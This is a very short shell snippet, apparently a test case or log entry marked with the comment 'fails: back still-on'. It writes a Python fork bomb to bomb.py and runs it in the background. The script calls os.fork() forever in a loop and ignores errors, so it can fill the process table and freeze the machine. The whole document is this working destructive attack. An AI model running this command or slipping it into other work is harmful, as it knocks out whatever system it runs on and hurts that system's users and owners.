# fails: back still-on
printf 'import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n' > bomb.py
python3 bomb.py &
